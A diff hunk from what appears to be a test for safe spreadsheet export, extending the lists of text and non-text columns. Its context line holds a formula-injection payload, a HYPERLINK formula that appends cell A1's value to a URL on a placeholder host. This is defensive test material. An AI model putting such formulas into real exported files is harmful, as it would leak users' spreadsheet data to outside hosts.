@@ -30,12 +30,14 @@ PAYLOAD = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
 # Columns that are not free text: numbers, the qualifier's fixed vocabulary, a timestamp.
 NOT_TEXT = {
     "claim_id", "start", "end", "value", "value_max", "extracted_value", "normalized_value",
-    "fact_id", "qualifier", "reviewed_at",
+    "fact_id", "qualifier", "reviewed_at", "page",
 }  # fmt: skip
 # Each text column and the stored field its cell shows.
 TEXT_FIELDS: dict[str, tuple[type[SQLModel], str]] = {
     "source": (Source, "path"),
     "source_path": (Source, "location"),
+    "url": (Source, "url"),
+    "citation_url": (Source, "url"),  # a text file's link is its URL as it is
     "article": (Article, "title"),
     "quote": (Claim, "quote"),
     "sentence": (Claim, "sentence"),
